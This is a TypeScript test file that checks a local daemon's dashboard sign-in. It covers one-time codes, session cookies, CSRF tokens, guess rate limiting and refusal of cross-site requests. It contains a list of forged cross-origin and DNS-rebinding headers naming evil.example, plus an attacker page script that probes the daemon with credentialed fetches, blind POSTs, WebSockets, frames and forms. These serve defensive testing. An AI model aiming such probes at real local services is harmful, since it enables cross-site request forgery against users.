/** The way into the page of a real daemon, and everybody who must not find it. */
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import process from "node:process";
import { withDeadline } from "../../src/core/mod.ts";
import { type DaemonProcess, runAlmenad, startDaemon } from "../support/daemon.ts";
import { LineProcess } from "../support/line_process.ts";
import { program, testNeeding } from "../support/needs.ts";
import { chromiumNeed, PageBrowser } from "../support/page_browser.ts";
import { ask, type PageAnswer, pageCode, signIn } from "../support/page_session.ts";
import { tempFolder } from "../support/temp_folder.ts";
import { waitFor } from "../support/wait.ts";

const SESSION = "/api/v1/session";
const CREATE = "/api/v1/libraries/create";
const JSON_TYPE = { "content-type": "application/json" };

function post(
  { ready }: DaemonProcess,
  path: string,
  headers: Record<string, string>,
  body: unknown,
): Promise<PageAnswer> {
  const all = { ...JSON_TYPE, ...headers };
  return ask(ready.rest_addr, "POST", path, all, JSON.stringify(body));
}

async function libraries({ ready }: DaemonProcess): Promise<number> {
  const { json } = await ask(ready.rest_addr, "GET", "/api/v1/libraries/list");
  return (json["libraries"] as unknown[]).length;
}

Deno.test("almenad dashboard prints an address whose code signs one browser in", async () => {
  await using daemon = await startDaemon();
  const { rest_addr: address } = daemon.ready;
  const { code, stdout, stderr } = await runAlmenad(
    ["--data-dir", daemon.dataDir, "dashboard"],
    { env: { DISPLAY: "", WAYLAND_DISPLAY: "", WSL_DISTRO_NAME: "" } },
  );
  assert.equal(code, 0, stderr);
  const [, once = ""] = new RegExp(`^http://${address}/#code=([\\w-]{22})\n$`).exec(stdout) ?? [];
  assert.ok(once, stdout);
  assert.match(stderr, /works once, for 5 minutes/);
  const answer = await post(daemon, SESSION, {}, { code: once });
  assert.equal(answer.status, 200);
  const port = address.split(":").at(-1);
  assert.match(
    answer.setCookie,
    new RegExp(`^almenad_session_${port}=[\\w-]{43}; HttpOnly; SameSite=Strict; Path=/$`),
  );
  const cookie = answer.setCookie.split(";")[0] ?? "";
  const shown = await ask(address, "GET", SESSION, { cookie });
  assert.deepEqual([shown.status, shown.json], [200, answer.json]);

  const csrf = { cookie, "x-almenad-csrf": String(answer.json["csrf"]) };
  const made = await post(daemon, CREATE, csrf, { name: "by the page" });
  assert.deepEqual([made.status, made.json["name"]], [200, "by the page"]);
  const query = 'mutation { librariesCreate(name: "by GraphQL") { name } }';
  const graphql = await post(daemon, "/graphql", csrf, { query });
  assert.deepEqual(graphql.json, { data: { librariesCreate: { name: "by GraphQL" } } });

  const out = await ask(address, "DELETE", SESSION, csrf);
  assert.equal(out.status, 204);
  assert.match(out.setCookie, /Max-Age=0/);
  assert.equal((await ask(address, "GET", SESSION, { cookie })).status, 401);
  assert.equal((await post(daemon, CREATE, csrf, { name: "too late" })).status, 401);
});

Deno.test("almenad dashboard --no-open --format json is one value, and fails without a daemon", async () => {
  await using daemon = await startDaemon();
  const args = ["--data-dir", daemon.dataDir, "dashboard", "--no-open", "--format", "json"];
  const { code, stdout, stderr } = await runAlmenad(args);
  assert.deepEqual([code, stderr], [0, ""]);
  const { url, expires_at_ms: until } = JSON.parse(stdout);
  assert.match(url, /^http:\/\/127\.0\.0\.1:\d+\/#code=[\w-]{22}$/);
  assert.ok(until > Date.now());
  await using empty = await tempFolder();
  const none = await runAlmenad(["--data-dir", empty.path, "dashboard"]);
  assert.equal(none.code, 4);
  assert.equal(none.stdout, "");
});

Deno.test("the page's session changes nothing without its token, and makes no further session", async () => {
  await using daemon = await startDaemon();
  const { rest_addr: address } = daemon.ready;
  const session = await signIn(address, (await pageCode(daemon.dataDir)).code);
  const { cookie = "" } = session;
  const mutation = { query: 'mutation { librariesCreate(name: "x") { name } }' };
  for (const token of [undefined, "", "x", "a".repeat(43)]) {
    const headers = { cookie, ...token === undefined ? {} : { "x-almenad-csrf": token } };
    assert.equal((await post(daemon, CREATE, headers, { name: "x" })).status, 403);
    const { json } = await post(daemon, "/graphql", headers, mutation);
    assert.match(JSON.stringify(json["errors"]), /permission_denied/);
    assert.equal((await ask(address, "DELETE", SESSION, headers)).status, 403);
  }
  assert.equal(await libraries(daemon), 1, "nothing was made");

  const codePath = "/api/v1/page/code";
  assert.equal((await post(daemon, codePath, {}, {})).status, 401);
  assert.equal((await post(daemon, codePath, session, {})).status, 403);
  const asked = { query: "mutation { pageCode { code } }" };
  const { json } = await post(daemon, "/graphql", session, asked);
  assert.match(JSON.stringify(json), /permission_denied/);
  assert.doesNotMatch(JSON.stringify(json), /"code":"[\w-]{22}"/);
  const token = (await readFile(join(daemon.dataDir, "daemon", "admin_token"), "utf8")).trim();
  const scripts = { authorization: `Bearer ${token}` };
  assert.equal((await post(daemon, codePath, scripts, {})).status, 200);
});

/** The same session as another daemon would name it. */
function renamed(session: Record<string, string>, { ready }: DaemonProcess) {
  const port = ready.rest_addr.split(":").at(-1);
  return { ...session, cookie: session["cookie"]?.replace(/_\d+=/, `_${port}=`) ?? "" };
}

Deno.test("a session is one daemon's: not another's, not a later start's", async () => {
  await using folder = await tempFolder();
  await using other = await startDaemon();
  let session: Record<string, string>;
  {
    await using daemon = await startDaemon({ dataDir: folder.path });
    session = await signIn(daemon.ready.rest_addr, (await pageCode(daemon.dataDir)).code);
    assert.deepEqual(renamed(session, daemon), session);
    const { code } = await pageCode(other.dataDir);
    assert.equal((await post(daemon, SESSION, {}, { code })).status, 401);
    // Browsers send every cookie of a host to all of its ports.
    for (const headers of [session, renamed(session, other)]) {
      assert.equal((await post(other, CREATE, headers, { name: "x" })).status, 401);
    }
  }
  await using again = await startDaemon({ dataDir: folder.path });
  const headers = renamed(session, again);
  assert.equal((await ask(again.ready.rest_addr, "GET", SESSION, headers)).status, 401);
  assert.equal((await post(again, CREATE, headers, { name: "x" })).status, 401);
});

Deno.test("wrong, used and malformed codes get one plain answer, a guesser gets 429, the owner in", async () => {
  await using daemon = await startDaemon();
  const { rest_addr: address } = daemon.ready;
  const { code } = await pageCode(daemon.dataDir);
  await signIn(address, code);
  const right = (await pageCode(daemon.dataDir)).code;
  const refused = new Set<string>();
  for (const wrong of [code, "", "A".repeat(22), `${right.slice(0, -1)}~`]) {
    const { status, json, setCookie } = await post(daemon, SESSION, {}, { code: wrong });
    assert.deepEqual([status, setCookie], [401, ""]);
    refused.add(JSON.stringify(json));
  }
  assert.equal(refused.size, 1, [...refused].join());
  for (const body of [{}, { code: 1 }, { code: "a".repeat(300) }, { code: "", more: 1 }, []]) {
    assert.equal((await post(daemon, SESSION, {}, body)).status, 400, JSON.stringify(body));
  }
  const form = { "content-type": "application/x-www-form-urlencoded" };
  const posted = await ask(address, "POST", SESSION, form, `code=${right}`);
  assert.equal(posted.status, 415);
  const guesses = await Promise.all(
    Array.from({ length: 100 }, (_, n) => post(daemon, SESSION, {}, { code: `guess-${n}` })),
  );
  assert.ok(guesses.every(({ status }) => status === 401 || status === 429));
  assert.ok(guesses.filter(({ status }) => status === 429).length >= 70);
  await signIn(address, right); // nobody can keep the owner out
  assert.equal((await ask(address, "PUT", SESSION)).status, 405);
});

Deno.test("thousands of codes take no room, and the newest of them work", async () => {
  const batches = process.env["ALMENAD_FULL"] === "1" ? 100 : 20;
  await using daemon = await startDaemon();
  const { ControlClient } = await import("../support/control_client.ts");
  using client = await ControlClient.connect(`${daemon.dataDir}/daemon/daemon.sock`);
  const one = { Action: { method: "action:page.code.input.v1", payload: {} } };
  const codes: string[] = [];
  for (let round = 0; round < batches; round++) {
    const { Batch: answers } = await client.ask({ Batch: Array(100).fill(one) }, 20_000);
    const values = answers as { JsonOk: { code: string } }[];
    codes.push(...values.map(({ JsonOk }) => JsonOk.code));
  }
  assert.equal(new Set(codes).size, batches * 100);
  const { rest_addr: address } = daemon.ready;
  assert.equal((await post(daemon, SESSION, {}, { code: codes.at(-17) })).status, 401);
  for (const code of codes.slice(-16)) await signIn(address, code);
});

/** What browsers send along when a page of another site makes them ask. */
const FOREIGN: readonly (readonly [what: string, headers: Record<string, string>])[] = [
  ["fetch", { origin: "https://evil.example", "sec-fetch-site": "cross-site" }],
  ["fetch of an old browser", { origin: "https://evil.example" }],
  ["form", { origin: "null", "sec-fetch-site": "cross-site" }],
  ["EventSource of another port", { origin: "http://127.0.0.1:1", "sec-fetch-site": "same-site" }],
  ["picture", { "sec-fetch-site": "cross-site", "sec-fetch-mode": "no-cors" }],
  ["frame", { "sec-fetch-site": "cross-site", "sec-fetch-dest": "iframe" }],
  ["page with a referrer", { referer: "https://evil.example/page" }],
  ["DNS rebinding", { host: "evil.example:8080", origin: "http://evil.example:8080" }],
  ["DNS rebinding to a port", { host: "127.0.0.1.evil.example" }],
  ["WebSocket", {
    ...{ origin: "https://evil.example", connection: "Upgrade", upgrade: "websocket" },
    ...{ "sec-websocket-version": "13", "sec-websocket-key": "AAAAAAAAAAAAAAAAAAAAAA==" },
  }],
];

Deno.test("other sites are refused whatever cookie and token they bring", async () => {
  await using daemon = await startDaemon();
  const { rest_addr: address } = daemon.ready;
  const session = await signIn(address, (await pageCode(daemon.dataDir)).code);
  const { code } = await pageCode(daemon.dataDir);
  for (const [what, headers] of FOREIGN) {
    const all = { ...session, ...headers };
    if (what === "WebSocket") continue; // below
    for (const path of ["/", "/api/v1/events", "/api/v1/core/status", SESSION]) {
      assert.equal((await ask(address, "GET", path, all)).status, 403, `${what} ${path}`);
    }
    const changes = [[CREATE, { name: "x" }], [SESSION, { code }], ["/graphql", {}]] as const;
    for (const [path, body] of changes) {
      assert.equal((await post(daemon, path, all, body)).status, 403, `${what} ${path}`);
    }
  }
  assert.equal(await libraries(daemon), 1, "nothing was made");
  // Some versions of the runtime end the connection of whoever wants to leave HTTP.
  const [, upgrade = {}] = FOREIGN.find(([what]) => what === "WebSocket") ?? [];
  const upgraded = await ask(address, "GET", "/api/v1/events", { ...session, ...upgrade })
    .then(({ status }) => status, () => 403);
  assert.equal(upgraded, 403);
  // What a browser that sends no such headers goes by.
  const { headers, body } = await fetch(daemon.url("/swagger-ui/"));
  await body?.cancel();
  assert.equal(headers.get("x-frame-options"), "DENY");
  assert.match(headers.get("content-security-policy") ?? "", /frame-ancestors 'none'/);
  assert.equal(headers.get("access-control-allow-origin"), null);
  await signIn(address, code); // and the code was not used up
});

// Tries all ways a page has, and tells its own server what came of each.
const EVIL_PAGE = `<!doctype html><body><script>
const target = new URLSearchParams(location.search).get("target");
const results = {};
const attempt = async (name, run) => {
  try { results[name] = await run(); } catch (error) { results[name] = "refused"; }
};
const json = { "content-type": "application/json" };
const body = '{"name":"evil"}';
const create = target + "/api/v1/libraries/create";
const loaded = (element, url) => new Promise((resolve) => {
  element.onload = () => resolve("loaded");
  element.onerror = () => resolve("refused");
  element.src = url;
  document.body.append(element);
});
(async () => {
  await attempt("fetch", async () => (await fetch(target + "/api/v1/core/status")).status);
  await attempt("fetch with cookies", async () =>
    await (await fetch(target + "/api/v1/session", { credentials: "include" })).text());
  await attempt("json post", async () =>
    (await fetch(create, { method: "POST", credentials: "include", headers: json, body })).status);
  await attempt("blind post", async () =>
    (await fetch(create, { method: "POST", credentials: "include", mode: "no-cors", body })).type);
  await attempt("EventSource", () => new Promise((resolve) => {
    const source = new EventSource(target + "/api/v1/logs", { withCredentials: true });
    source.onopen = () => resolve("open");
    source.onerror = () => resolve("refused");
  }));
  await attempt("WebSocket", () => new Promise((resolve) => {
    const socket = new WebSocket(target.replace("http", "ws") + "/api/v1/events");
    socket.onopen = () => resolve("open");
    socket.onerror = () => resolve("refused");
  }));
  await attempt("script", () => loaded(document.createElement("script"),
    target + "/swagger-ui/start.js"));
  await attempt("frame", () => new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.onload = () => resolve("no word of what is in it");
    frame.src = target + "/swagger-ui/";
    document.body.append(frame);
  }));
  const form = document.createElement("form");
  const sink = document.createElement("iframe");
  sink.name = "sink";
  document.body.append(sink, form);
  Object.assign(form, { method: "POST", action: create, target: "sink" });
  form.submit();
  await new Promise((resolve) => sink.onload = resolve);
  results.form = "sent";
  await fetch("/results", { method: "POST", body: JSON.stringify(results) });
})();
</script>`;

/** A site of somebody else's, and what its page told. */
async function evilSite() {
  const { promise: results, resolve } = Promise.withResolvers<Record<string, unknown>>();
  const server = createServer((request, response) => {
    if (request.url !== "/results") {
      return response.setHeader("content-type", "text/html").end(EVIL_PAGE);
    }
    let text = "";
    request.setEncoding("utf8").on("data", (part: string) => text += part);
    request.on("end", () => {
      response.end();
      resolve(JSON.parse(text));
    });
  });
  await new Promise<void>((listening) => server.listen(0, "127.0.0.1", () => listening()));
  const { port } = server.address() as AddressInfo;
  return {
    port,
    results,
    [Symbol.asyncDispose]: async () => {
      server.closeAllConnections();
      await new Promise<void>((closed) => server.close(() => closed()));
    },
  };
}

testNeeding(
  [program("chromium")],
  "a page of another site gets nowhere in a real browser",
  async () => {
    await using daemon = await startDaemon();
    await using site = await evilSite();
    await using profile = await tempFolder();
    // Rebound: the daemon's own address under the attacker's name. Same host, another port: what
    // SameSite cookies alone would let through.
    const [, port = ""] = daemon.ready.rest_addr.split(":");
    const targets = [`http://127.0.0.1:${port}`, `http://evil.example:${port}`];
    for (const [n, target] of targets.entries()) {
      await using evil = n === 0 ? site : await evilSite();
      const host = n === 0 ? "127.0.0.1" : "evil.example";
      await using _browser = new LineProcess({
        command: [
          ...["chromium", "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run"],
          ...["--disable-dev-shm-usage", `--user-data-dir=${profile.path}/${n}`],
          "--host-resolver-rules=MAP evil.example 127.0.0.1",
          ...["--remote-debugging-port=0", `http://${host}:${evil.port}/?target=${target}`],
        ],
      });
      const results = await withDeadline(evil.results, 30_000, "hear of the page");
      assert.deepEqual(results, {
        ...{ "fetch": "refused", "fetch with cookies": "refused", "json post": "refused" },
        ...{ "blind post": "opaque", "EventSource": "refused", "WebSocket": "refused" },
        ...{ "script": "refused", "frame": "no word of what is in it", "form": "sent" },
      }, target);
    }
    assert.equal(await libraries(daemon), 1, "nothing was made");
  },
);

testNeeding(
  [chromiumNeed()],
  "a browser that is signed in gives a page of another site nothing, nor a frame of it",
  async () => {
    await using daemon = await startDaemon();
    const [, port = ""] = daemon.ready.rest_addr.split(":");
    // The daemon's own host at another port, to which browsers send its cookies, and another host.
    await using near = await evilSite();
    await using far = await evilSite();
    await using browser = await PageBrowser.start({
      flags: ["--host-resolver-rules=MAP evil.example 127.0.0.1"],
    });
    const page = await browser.open((await pageCode(daemon.dataDir)).url);
    const useful = () => performance.getEntriesByName("useful").length > 0;
    await page.waitForFunction(useful);
    const framed: number[] = [];
    page.on("response", (response) => {
      if (response.url().endsWith("/swagger-ui/")) framed.push(response.status());
    });
    const go = (url: string) => page.goto(url, { waitUntil: "commit" });
    for (const [host, evil] of [["127.0.0.1", near], ["evil.example", far]] as const) {
      await go(`http://${host}:${evil.port}/?target=http://127.0.0.1:${port}`);
      const results = await withDeadline(evil.results, 30_000, "hear of the page");
      assert.deepEqual(results, {
        ...{ "fetch": "refused", "fetch with cookies": "refused", "json post": "refused" },
        ...{ "blind post": "opaque", "EventSource": "refused", "WebSocket": "refused" },
        ...{ "script": "refused", "frame": "no word of what is in it", "form": "sent" },
      }, host);
      await waitFor("the frame's answer", () => framed.length > 0); // told by the browser, later
      assert.deepEqual(framed.splice(0), [403], host);
    }
    // The attacker's name leads to the daemon now, as after DNS rebinding: same origin, foreign Host.
    const answer = await go(`http://evil.example:${port}/api/v1/core/status`);
    assert.equal(answer?.status(), 403);
    assert.equal(await libraries(daemon), 1, "nothing was made");
    await go(daemon.url("/"));
    await page.waitForFunction(useful); // and whoever is signed in still is
    assert.equal(await page.evaluate(async () => (await fetch("/api/v1/session")).status), 200);
  },
);
